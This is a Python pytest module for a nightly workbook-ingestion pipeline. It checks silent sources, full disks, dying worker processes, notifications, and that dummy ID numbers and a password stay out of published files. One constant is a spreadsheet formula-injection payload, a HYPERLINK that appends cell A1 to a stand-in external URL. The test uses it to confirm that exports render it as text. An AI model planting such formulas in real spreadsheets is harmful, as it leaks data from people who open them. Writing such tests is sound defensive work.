"""What the world does to a night: silent sources, full disks, private numbers, formulas, messages nobody takes."""

from __future__ import annotations

import json
import multiprocessing
import resource
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from flows import telling
from publishing.current import current_version
from publishing.snapshot import NoRoomError
from publishing.verify import verify_snapshots
from review.workbook import outbox
from schemas.text import PersonError
from tests.flows.conftest import Desk

pytestmark = [
    pytest.mark.long,
    pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning"),
]

NIK, NIP = "3603999913990001", "189905052005011003"
FORMULA = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
SECRET = "sandi-rahasia-kabupaten"
PLACES = ("mentah", "inbox")
"""Where what was sent lies as it was sent."""


@contextmanager
def silent_server() -> Iterator[int]:
    """Takes every connection and never says a word."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        held: list[socket.socket] = []

        def take() -> None:
            try:
                while True:
                    held.append(server.accept()[0])
            except OSError:
                return

        thread = threading.Thread(target=take, daemon=True)
        thread.start()
        try:
            yield int(server.getsockname()[1])
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join(5)
            for connection in held:
                connection.close()


@contextmanager
def message_board() -> Iterator[tuple[int, list[tuple[dict, str]]]]:
    """A web server that keeps what is posted to it, with the credentials it came with."""
    posted: list[tuple[dict, str]] = []

    class Board(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            posted.append((json.loads(body), self.headers.get("Authorization", "")))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Board) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server.server_port, posted
        finally:
            server.shutdown()
            thread.join(5)


def write_in(desk: Desk, part: str, sheet: str, text: str) -> None:
    """Replace the first obstacle (or else a long text) of a form by ``text``."""
    path = desk.inbox / desk.regency.path(part).relative_to(desk.regency.inbox)
    book = load_workbook(path)
    rows = list(book[sheet].iter_rows())
    (heading,) = {
        cell.column for row in rows[:14] for cell in row if str(cell.value).strip().lower().startswith("permasalahan")
    }
    leaf = next(row for row in rows[14:] if isinstance(row[heading - 3].value, int | float | str) and row[3].value)
    leaf[heading - 1].value = text
    leaf[heading - 1].data_type = "s"
    book.save(path)


@pytest.fixture(scope="module")
def troubled(open_desk: Callable[[str], Desk]) -> Iterator[tuple[Desk, list[tuple[dict, str]]]]:
    """One night with a silent source, private numbers and a formula in free text, and a board to be told."""
    desk = open_desk("gaduh")
    write_in(desk, "RFK Bag. Adbang April", "RFK", f"Menunggu berkas an. Contoh, NIK {NIK}, NIP {NIP}")
    write_in(desk, "RFK Bag. Adbang Maret", "RFK", FORMULA)
    patch = pytest.MonkeyPatch()
    with silent_server() as mute, message_board() as (port, posted):
        patch.setenv("JUJUR_ALAMAT_PEMBERITAHUAN", f"json://petugas:{SECRET}@127.0.0.1:{port}/malam")
        place = desk.settings.tempat
        desk.settings = desk.settings.model_copy(
            update={
                "tempat": place.model_copy(update={"kotak_masuk": [*place.kotak_masuk, f"http://127.0.0.1:{mute}/"]}),
                "batas": desk.settings.batas.model_copy(update={"waktu_sumber_detik": 2}),
            }
        )
        desk.last = desk.night()
        patch.undo()
        yield desk, posted


def everything_written(home: Path) -> Iterator[tuple[Path, bytes]]:
    """Every byte below ``home`` but what was sent, with compressed tables and workbooks opened."""
    for path in home.rglob("*"):
        if path.is_file() and path.relative_to(home).parts[0] not in PLACES:
            if path.suffix == ".parquet":
                yield path, repr(pl.read_parquet(path).to_dicts()).encode()
            elif path.suffix == ".xlsx":
                sheets = load_workbook(path, read_only=True)
                yield path, repr([[list(r) for r in s.iter_rows(values_only=True)] for s in sheets]).encode()
            else:
                yield path, path.read_bytes()


def test_a_silent_source_costs_its_time_limit_and_is_told(troubled: tuple[Desk, list]) -> None:
    desk, _ = troubled
    (problem,) = desk.last.problems
    assert "127.0.0.1" in problem.source
    assert desk.last.summary["berkas"]["diterima"] > 20
    assert desk.table("realisasi").height > 100


def test_private_numbers_and_passwords_stay_with_what_was_sent(troubled: tuple[Desk, list]) -> None:
    desk, _ = troubled
    looked, returned_to = 0, set()
    for path, content in everything_written(desk.home):
        looked += 1
        room, *below = path.relative_to(desk.home).parts
        for private in (NIK, NIP, SECRET):
            if private.encode() in content:
                assert (room, private) in {("keluar", NIK), ("keluar", NIP)}, (path, private)
                returned_to.add(below[0])
    assert looked > 40
    assert len(returned_to) <= 1, "only who sent a number gets it back, in the agency's own workbook"


def test_a_formula_in_free_text_ends_as_text(troubled: tuple[Desk, list]) -> None:
    desk, _ = troubled
    current = desk.home / "published" / "current"
    sent = desk.table("realisasi").filter(pl.col("permasalahan").str.contains("HYPERLINK"))
    assert sent.height == 1
    line = next(x for x in (current / "realisasi.csv").read_text(encoding="utf-8-sig").splitlines() if "HYPERLINK" in x)
    assert ",=HYPERLINK" not in line
    assert ',"=HYPERLINK' not in line
    for sheet in load_workbook(current / "anomali.xlsx"):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_people_are_told_numbers_and_no_figures(troubled: tuple[Desk, list]) -> None:
    desk, posted = troubled
    ((message, credentials),) = posted
    assert credentials.startswith("Basic ")
    assert "anomali untuk diklarifikasi" in message["message"]
    assert str(desk.last.version) in message["message"]
    assert "Rp" not in message["message"]


def test_a_failed_night_is_told_too(troubled: tuple[Desk, list], monkeypatch: pytest.MonkeyPatch) -> None:
    desk, _ = troubled
    with message_board() as (port, posted):
        monkeypatch.setenv("JUJUR_ALAMAT_PEMBERITAHUAN", f"json://127.0.0.1:{port}/malam")
        telling.notify_failure(desk.last, ValueError(f"isi {NIK}"))
    ((message, _),) = posted
    assert "malam gagal" in message["title"]
    assert "ValueError" in message["message"]
    assert NIK not in message["message"]


def test_an_address_that_does_not_answer_is_an_error_without_the_address(
    troubled: tuple[Desk, list], monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("JUJUR_ALAMAT_PEMBERITAHUAN", f"json://petugas:{SECRET}@127.0.0.1:9/malam")
    with pytest.raises(PersonError) as caught:
        telling.notify(troubled[0].last)
    assert SECRET not in caught.value.render("id") + caught.value.render("en")
    assert capfd.readouterr() == ("", "")


@contextmanager
def little_room(limit: int) -> Iterator[None]:
    """No file of this process may grow beyond ``limit`` bytes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


def test_no_room_while_publishing_leaves_the_last_snapshot_and_the_next_night_makes_it_good(
    open_desk: Callable[[str], Desk],
) -> None:
    desk = open_desk("penuh")
    first = desk.night()
    write_in(desk, "RFK Bag. Adbang April", "RFK", "Pemilihan penyedia diulang")
    with little_room(1_000_000), pytest.raises(NoRoomError):
        desk.night()
    assert current_version(desk.home) == first.version
    assert verify_snapshots(desk.home) == []
    again = desk.night()
    assert again.version not in (None, first.version)
    assert desk.table("realisasi")["permasalahan"].str.contains("diulang").any()


def test_no_room_for_the_ledger_is_said_in_the_same_words(open_desk: Callable[[str], Desk]) -> None:
    desk = open_desk("sempit")
    with little_room(130_000), pytest.raises((NoRoomError, PersonError)):
        desk.night()
    assert current_version(desk.home) is None
    assert desk.night().version is not None


@contextmanager
def killer_of_children() -> Iterator[None]:
    """Kills every process this one starts to share its work with."""
    over = threading.Event()

    def kill() -> None:
        while not over.wait(0.02):
            for child in multiprocessing.active_children():
                child.kill()

    thread = threading.Thread(target=kill)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


def test_writers_of_workbooks_that_die_are_a_warning_and_the_next_night_writes(
    open_desk: Callable[[str], Desk], monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = open_desk("penulis-mati")
    with monkeypatch.context() as several:
        several.setattr(outbox, "SERIAL_BELOW", 0)
        several.setattr("flows.returning.workers_of", lambda _: 2)
        with killer_of_children():
            night = desk.night()
    assert current_version(desk.home) == night.version
    assert [note["en"] for note in night.summary["peringatan"] if "Returned workbooks" in note["en"]]
    assert "balasan" not in night.summary
    assert desk.night().summary["balasan"]["ditulis_malam_ini"] > 0
